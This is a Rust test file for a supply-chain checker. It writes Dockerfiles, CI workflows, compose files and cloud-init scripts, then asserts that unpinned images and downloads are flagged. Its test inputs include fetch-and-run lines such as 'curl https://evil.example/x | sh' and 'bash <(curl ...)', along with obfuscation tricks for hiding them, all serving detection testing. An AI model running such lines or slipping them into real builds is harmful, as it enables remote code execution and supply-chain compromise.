//! What a reviewer would try: files that fetch something in a way a reader may overlook. Each must end in a finding.
//!
//! The trees are written to disk and read whole, so the names of files are judged too.

use std::fs;
use std::path::Path;

use xtask_host::finding::Severity;
use xtask_pins::inventory::{Inventory, judge};
use xtask_pins::waivers;
use xtask_testkit::repository;

/// An image that no digest pins.
const EVIL: &str = "evil.example/x:1";
/// An image that one does.
const GOOD: &str =
    "good.example/x:1@sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";

const DOCKERFILE: &str = "a/Dockerfile";
const WORKFLOW: &str = ".github/workflows/x.yml";
const LOCK: &str = ".github/workflows/actions.lock";
const COMMIT: &str = "de0fac2e4500dabe0009e67214ff5f5447ce83dd";

/// One file, and what must be found in it: `rule:line` for each finding.
type Case<'a> = (&'a str, &'a str, &'a [&'a str]);

/// Every finding of a tree that holds `file` beside what each tree has, as `rule:line`.
fn findings(files: &[(&str, &str)]) -> Vec<String> {
    let tree = tempfile::tempdir().expect("a directory");
    let write = |path: &str, text: &str| {
        let full = tree.path().join(path);
        fs::create_dir_all(full.parent().unwrap_or(Path::new("."))).expect("a directory");
        fs::write(full, text).expect("a file");
    };
    let cloud_init = fs::read_to_string(repository().join("cloud-init/cloud-init.yaml"));
    write("cloud-init/cloud-init.yaml", &cloud_init.expect("the file"));
    write("compose/pin-waivers.yaml", "version: 1\nwaivers: []\n");
    write("rust-toolchain.toml", "[toolchain]\nchannel = \"1.95.0\"\n");
    for (path, text) in files {
        let text = text.replace("EVIL", EVIL).replace("GOOD", GOOD);
        write(path, &text.replace("COMMIT", COMMIT));
    }
    let inventory = Inventory::read(tree.path()).expect("the tree is read");
    let today = waivers::parse_date("2026-11-01").expect("a date");
    let found = judge(&inventory, today).into_iter().map(|finding| {
        let line = finding.place.map_or(0, |place| place.line);
        let mark = match finding.severity {
            Severity::Error => "",
            Severity::Warning => "?",
        };
        format!("{}{mark}:{line}", finding.rule)
    });
    found.collect()
}

/// Judges all cases and reports every one that came out otherwise.
fn hold(cases: &[Case<'_>], around: impl Fn(&str) -> String) {
    let mut wrong = Vec::new();
    for (number, (path, text, expected)) in cases.iter().enumerate() {
        let found = findings(&[(path, &around(text))]);
        if found != *expected {
            wrong.push(format!(
                "{}. {path}\n{text}\n  expected {expected:?}\n  found    {found:?}\n",
                number + 1
            ));
        }
    }
    assert!(
        wrong.is_empty(),
        "{} of {} cases:\n{}",
        wrong.len(),
        cases.len(),
        wrong.join("\n")
    );
}

fn as_is(text: &str) -> String {
    text.to_owned()
}

/// Words of a Dockerfile that name an image in a roundabout way.
#[test]
fn no_image_of_a_dockerfile_is_skipped() {
    let image = &["unpinned-image:2"];
    let cases: &[Case<'_>] = &[
        (
            DOCKERFILE,
            "FROM GOOD\nRUN --mount=\"from=EVIL\" true\n",
            image,
        ),
        (
            DOCKERFILE,
            "FROM GOOD\nRUN --mount=type=bind,\"from=EVIL\" true\n",
            image,
        ),
        (
            DOCKERFILE,
            "FROM GOOD\nRUN --mount='type=bind,\"from=EVIL\"' true\n",
            image,
        ),
        (
            DOCKERFILE,
            "FROM GOOD\nRUN --mount=TYPE=bind,FROM=EVIL true\n",
            image,
        ),
        (
            DOCKERFILE,
            "FROM GOOD\nRUN --mount=type=bind,\\\nfrom=EVIL true\n",
            &["unpinned-image:3"],
        ),
        (
            DOCKERFILE,
            "FROM GOOD\nCOPY --from=\\\n# a comment\nEVIL /a /a\n",
            &["unpinned-image:4"],
        ),
        (
            DOCKERFILE,
            "FROM GOOD\nCOPY --from=evil.exam\\\nple/x:1 /a /a\n",
            &["image-reference:2"],
        ),
        (DOCKERFILE, "FROM GOOD\nCOPY --fr\"om\"=EVIL /a /a\n", image),
        (DOCKERFILE, "FROM GOOD\nCOPY --fr\\om=EVIL /a /a\n", image),
        (DOCKERFILE, "FR\\\nOM EVIL\n", image),
        (
            DOCKERFILE,
            "FROM GOOD\nRUN echo a \\\\\nCOPY --from=EVIL /a /a\n",
            &["unpinned-image:3"],
        ),
        (
            DOCKERFILE,
            "FROM GOOD\nRUN echo \"a <<CMD b\"\nCOPY --from=EVIL /a /a\nCMD\n",
            &["unpinned-image:3"],
        ),
        (
            DOCKERFILE,
            "FROM GOOD\nONBUILD RUN --mount=\"from=EVIL\" true\n",
            image,
        ),
        (
            DOCKERFILE,
            "#!/usr/bin/docker\n#syntax=EVIL\nFROM GOOD\n",
            image,
        ),
        (
            DOCKERFILE,
            "//syntax=EVIL\nFROM GOOD\n",
            &["dockerfile:1", "unpinned-image:1"],
        ),
        (DOCKERFILE, "# other=1\n# syntax=EVIL\nFROM GOOD\n", image),
        (
            DOCKERFILE,
            "\u{feff}# syntax=EVIL\nFROM GOOD\n",
            &["unpinned-image:1"],
        ),
        (
            DOCKERFILE,
            "{\"syntax\": \"EVIL\"}\nFROM GOOD\n",
            &["dockerfile:1"],
        ),
        (
            DOCKERFILE,
            "FROM GOOD\nCOPPY --from=EVIL /a /a\n",
            &["dockerfile:2"],
        ),
    ];
    hold(cases, as_is);
}

/// Addresses that `ADD` fetches, however they are written.
#[test]
fn no_file_that_add_fetches_is_skipped() {
    let file = &["unpinned-download:2"];
    let later = &["unpinned-download:3"];
    let cases: &[Case<'_>] = &[
        (
            DOCKERFILE,
            "FROM GOOD\nADD [\"https://evil.example/f\", \"/f\"]\n",
            file,
        ),
        (
            DOCKERFILE,
            "FROM GOOD\nARG U=https://evil.example/f\nADD $U /f\n",
            later,
        ),
        (
            DOCKERFILE,
            "FROM GOOD\nENV A=b U=\"https://evil.example/f\"\nADD ${U} /f\n",
            later,
        ),
        (
            DOCKERFILE,
            "FROM GOOD\nENV U https://evil.example/f\nADD $U /f\n",
            later,
        ),
        (DOCKERFILE, "FROM GOOD\nADD ${MISSING} /f\n", file),
        (
            DOCKERFILE,
            "FROM GOOD\nADD HTTPS://evil.example/f /f\n",
            file,
        ),
        (DOCKERFILE, "FROM GOOD\nADD github.com/o/r /f\n", file),
        (
            DOCKERFILE,
            "FROM GOOD\nADD someone@evil.example:o/r.git /f\n",
            file,
        ),
        (
            DOCKERFILE,
            "FROM GOOD\nONBUILD ADD \\\n  ssh://evil.example/r.git /f\n",
            later,
        ),
    ];
    hold(cases, as_is);
}

/// What the commands of a Dockerfile fetch.
#[test]
fn nothing_that_run_fetches_is_skipped() {
    let file = &["unpinned-download:2"];
    let pipe = &["piped-download:2"];
    let package = &["unpinned-package:2"];
    let cases: &[Case<'_>] = &[
        (
            DOCKERFILE,
            "RUN curl -fsSLo /x https://evil.example/x",
            file,
        ),
        (
            DOCKERFILE,
            "RUN cd /tmp && \\\n  # why\n  /usr/bin/wget -q https://evil.example/x",
            &["unpinned-download:4"],
        ),
        (
            DOCKERFILE,
            "RUN [\"curl\", \"-o\", \"/x\", \"https://evil.example/x\"]",
            file,
        ),
        (DOCKERFILE, "RUN if true; then V=1 curl -O \"$U\"; fi", file),
        (
            DOCKERFILE,
            "RUN sha256sum -c /sums && curl -O https://evil.example/x",
            file,
        ),
        (
            DOCKERFILE,
            "RUN set -e; x=$(curl https://evil.example/x)",
            file,
        ),
        (
            DOCKERFILE,
            "RUN <<EOF\ncurl https://evil.example/x | sh\nEOF",
            &["piped-download:3"],
        ),
        (
            DOCKERFILE,
            "RUN <<-'E' bash\n\tcurl -O https://evil.example/x\n\tE",
            &["unpinned-download:3"],
        ),
        (
            DOCKERFILE,
            "RUN curl https://evil.example/x | sudo -E bash -s -- -y",
            pipe,
        ),
        (
            DOCKERFILE,
            "RUN sh -c 'curl https://evil.example/x | sh'",
            pipe,
        ),
        (DOCKERFILE, "RUN pip install requests", package),
        (
            DOCKERFILE,
            "RUN python3 -m pip install -r requirements.txt",
            package,
        ),
        (DOCKERFILE, "RUN pip3 install a==1.0 b~=2", package),
        (DOCKERFILE, "RUN npm install -g left-pad", package),
        (DOCKERFILE, "RUN npm i @scope/x@^1", package),
        (DOCKERFILE, "RUN npx --yes cowsay hi", package),
        (
            DOCKERFILE,
            "RUN CGO_ENABLED=0 go install evil.example/x@latest",
            package,
        ),
    ];
    hold(cases, |text| format!("FROM GOOD\n{text}\n"));
}

/// Compose files and bake files, under whatever name, and what they hand to builds.
#[test]
fn no_compose_or_bake_file_is_skipped() {
    let service = "services:\n  a:\n    image: EVIL\n";
    let syntax = "services:\n  a:\n    image: GOOD\n    build:\n      context: .\n      dockerfile: Dockerfile\n      args: {BUILDKIT_SYNTAX: 'EVIL'}\n";
    let cases: &[Case<'_>] = &[
        ("docker-compose-prod.yml", service, &["unpinned-image:3"]),
        ("deploy/stack.yaml", service, &["unpinned-image:3"]),
        (
            "deploy/compose.json",
            "{\"services\": {\"a\": {\"image\": \"EVIL\"}}}",
            &["unpinned-image:1"],
        ),
        (
            "docker-bake.hcl",
            "target \"a\" {\n  contexts = { b = \"docker-image://EVIL\" }\n}\n",
            &["pin-uncovered:1"],
        ),
        ("docker-bake.override.json", "{}", &["pin-uncovered:1"]),
        (
            "ci/build.hcl",
            "target \"a\" {\n  dockerfile = \"x\"\n}\n",
            &["pin-uncovered:1"],
        ),
    ];
    hold(cases, as_is);
    let found = findings(&[("compose.yml", syntax), ("Dockerfile", "FROM GOOD\n")]);
    assert_eq!(found, ["unpinned-image:7"]);
}

/// What the steps of workflows and actions run.
#[test]
fn nothing_that_a_step_runs_is_skipped() {
    let pipe = &["piped-download:4"];
    let image = &["unpinned-image:4"];
    let unreadable = &["image-reference:4"];
    let cases: &[Case<'_>] = &[
        (
            WORKFLOW,
            "run: curl -fsSL https://evil.example/i | bash",
            pipe,
        ),
        (
            WORKFLOW,
            "run: 'wget -qO- https://evil.example/i | tee x | python3 -'",
            pipe,
        ),
        (
            WORKFLOW,
            "run: bash <(curl -fsSL https://evil.example/i)",
            pipe,
        ),
        (
            WORKFLOW,
            "run: sh -c \"$(curl -fsSL https://evil.example/i)\"",
            pipe,
        ),
        (
            WORKFLOW,
            "run: eval \"`curl https://evil.example/i`\"",
            pipe,
        ),
        (
            WORKFLOW,
            "run: |\n          true\n          curl https://evil.example/i |\n            sudo sh",
            &["piped-download:6"],
        ),
        (
            WORKFLOW,
            "run: docker run --rm -itv /a:/b --name x EVIL sh",
            image,
        ),
        (
            WORKFLOW,
            "run: sudo docker --context c container run -d=true -e A=1 EVIL",
            image,
        ),
        (
            WORKFLOW,
            "run: >-\n          true &&\n          docker pull --platform linux/arm64 EVIL",
            &["unpinned-image:6"],
        ),
        (WORKFLOW, "run: podman pull -q EVIL", image),
        (WORKFLOW, "run: docker run alpine", unreadable),
        (WORKFLOW, "run: docker pull \"$IMAGE\"", unreadable),
        (
            WORKFLOW,
            "run: docker build --build-arg BUILDKIT_SYNTAX=EVIL .",
            image,
        ),
        (
            WORKFLOW,
            "run: \"docker pull evil.\\x65xample/x:1\"",
            unreadable,
        ),
    ];
    hold(cases, |text| {
        format!("jobs:\n  a:\n    steps:\n      - {text}\n")
    });
    let cases: &[Case<'_>] = &[
        (
            "x/action.yml",
            "runs:\n  using: composite\n  steps:\n    - run: docker pull EVIL\n",
            image,
        ),
        (
            "x/action.yml",
            "runs:\n  using: docker\n  image: build.txt\n",
            &["dockerfile:3"],
        ),
        (
            WORKFLOW,
            "jobs:\n  a:\n    uses: $/x@v1\n",
            &["action-reference:3"],
        ),
    ];
    hold(cases, as_is);
}

/// Scripts that the machine runs.
#[test]
fn nothing_is_piped_into_a_shell_of_the_machine() {
    let tree = tempfile::tempdir().expect("a directory");
    let path = repository().join("cloud-init/cloud-init.yaml");
    let text = fs::read_to_string(path).expect("the file");
    for (from, to) in [
        (
            "runcmd:\n",
            "runcmd:\n  - [sh, -c, 'curl https://evil.example/i | sh']\n",
        ),
        (
            "runcmd:\n",
            "runcmd:\n  - curl https://evil.example/i | sh\n",
        ),
    ] {
        let changed = text.replacen(from, to, 1);
        assert_ne!(text, changed, "{from}");
        fs::create_dir_all(tree.path().join("cloud-init")).expect("a directory");
        let found = findings(&[("cloud-init/cloud-init.yaml", &changed)]);
        assert!(
            found
                .iter()
                .any(|found| found.starts_with("piped-download")),
            "{to}: {found:?}"
        );
    }
}

const USES: &str = "jobs:\n  a:\n    steps:\n      - uses: o/r/sub@v1.2.3\n";
const ENTRY: &str = "    o/r@v1.2.3:\n        ref: v1.2.3\n        commit: sha1-COMMIT\n        owner_id: 1\n        repo_id: 2\n";

/// The lock file of GitHub: what is in it counts, and what is wrong with it is found.
#[test]
fn a_lock_file_pins_what_it_holds_and_nothing_else() {
    let head = "version: 'v0.0.2'\nworkflows:\n    .github/workflows/x.yml:\n        - o/r@v1.2.3\ndependencies:\n";
    let whole = format!("{head}{ENTRY}");
    let cases: &[(&str, &[&str])] = &[
        (&whole, &[]),
        (&whole.replace("v0.0.2", "v9"), &["actions-lock?:1"]),
        (
            &whole.replace(
                "        owner_id: 1\n",
                "        owner_id: 1\n        new: 1\n",
            ),
            &["actions-lock?:10"],
        ),
        // No entry, another commit form, a dependency of a dependency without an entry.
        (
            &format!("{}  {{}}\n", head),
            &["actions-lock:4", "unpinned-action:4", "action-tag:4"],
        ),
        (
            &whole.replace("sha1-COMMIT", "sha1-de0fac2"),
            &["actions-lock:8", "unpinned-action:4", "action-tag:4"],
        ),
        (
            &format!("{whole}        uses: [p/q@v1]\n"),
            &["actions-lock:11"],
        ),
        // A workflow that the lock knows and that uses something else; one that is gone.
        (
            &whole
                .replace("- o/r@v1.2.3", "- o/r@v1.2.4")
                .replace("    o/r@v1.2.3:", "    o/r@v1.2.4:"),
            &[
                "actions-lock:3",
                "actions-lock?:3",
                "unpinned-action:4",
                "action-tag:4",
            ],
        ),
        (
            &whole.replace("x.yml", "gone.yml"),
            &["actions-lock:3", "unpinned-action:4", "action-tag:4"],
        ),
        (
            "version: [\n",
            &["yaml-syntax:2", "unpinned-action:4", "action-tag:4"],
        ),
    ];
    let mut wrong = Vec::new();
    for (lock, expected) in cases {
        let found = findings(&[(WORKFLOW, USES), (LOCK, lock)]);
        if found != *expected {
            wrong.push(format!(
                "{lock}\n  expected {expected:?}\n  found    {found:?}"
            ));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// What looks like the above and is none of it.
#[test]
fn what_is_pinned_or_fetches_nothing_is_no_finding() {
    let cases: &[Case<'_>] = &[
        (
            DOCKERFILE,
            "FROM GOOD AS b\nCOPY --from=b /a /a\nRUN --mount=type=cache,target=/c,from=b true\n",
            &[],
        ),
        (
            DOCKERFILE,
            "FROM GOOD\nRUN cat <<1 && cat 3<<-two\nFROM EVIL\n1\n\tCOPY --from=EVIL\n\ttwo\n",
            &[],
        ),
        (
            DOCKERFILE,
            "FROM GOOD\nRUN curl -o x https://a.example/x && echo \"$S  x\" | sha256sum --check -\n",
            &[],
        ),
        (
            DOCKERFILE,
            "FROM GOOD\nRUN apt-get install -y curl wget && curl --version && pip --version\n",
            &[],
        ),
        (
            DOCKERFILE,
            "FROM GOOD\nRUN pip install --require-hashes -r r.txt && pip install -U a==1.0 ./local\n",
            &[],
        ),
        (
            DOCKERFILE,
            "FROM GOOD\nRUN npm ci && npm install left-pad@1.3.0 && go install example.com/x@v1.2.3 && go install ./...\n",
            &[],
        ),
        (
            DOCKERFILE,
            "FROM GOOD\nARG TARGETARCH\nADD root-${TARGETARCH}.tar.gz /\nADD [\"a b\", \"/b\"]\n",
            &[],
        ),
        (
            DOCKERFILE,
            "FROM GOOD\n# curl https://evil.example | sh\nRUN echo 'curl x | sh' # curl x | sh\n",
            &[],
        ),
        (
            WORKFLOW,
            "jobs:\n  a:\n    steps:\n      - run: docker run --rm GOOD && docker ps && echo docker run x\n",
            &[],
        ),
        (
            WORKFLOW,
            "jobs:\n  a:\n    steps:\n      - run: curl https://a.example/x | jq .\n      - uses: $/a\n",
            &[],
        ),
        (
            WORKFLOW,
            "jobs:\n  a:\n    uses: $/.github/workflows/b.yml\n",
            &[],
        ),
        ("x/services.yaml", "services:\n  - image\n", &[]),
        ("x/terraform.hcl", "resource \"a\" \"b\" {}\n", &[]),
    ];
    hold(cases, as_is);
}
